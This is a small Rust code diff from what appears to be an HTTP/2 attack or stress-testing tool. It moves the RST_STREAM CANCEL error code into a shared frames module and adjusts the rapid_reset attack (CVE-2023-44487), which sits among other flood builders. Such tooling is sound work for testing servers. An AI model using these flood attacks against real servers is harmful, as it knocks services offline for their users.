@@ -2,15 +2,13 @@
 
 use super::{Attack, Script};
 use crate::frames::{
-    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, MAX_PAYLOAD,
-    PING, PRIORITY, RST_STREAM, Request, SETTINGS, WINDOW_UPDATE, block, frame, opening, stream,
+    ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE,
+    MAX_PAYLOAD, PING, PRIORITY, RST_STREAM, Request, SETTINGS, WINDOW_UPDATE, block, frame,
+    opening, stream,
 };
 
 /// The frames in one write of a flood.
 const BATCH: u32 = 1000;
-
-/// The error code of RST_STREAM frames.
-const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
 
 /// A connection without a request.
 #[must_use]
@@ -106,7 +104,7 @@ pub fn empty_data_flood(request: &Request) -> Attack {
 /// Requests that the client resets at once (CVE-2023-44487).
 #[must_use]
 pub fn rapid_reset(request: &Request) -> Attack {
-    reset(request, RST_STREAM, CANCEL)
+    reset(request, RST_STREAM, CANCEL.to_be_bytes())
 }
 
 /// Requests that the client makes the server reset, by a WINDOW_UPDATE of 0
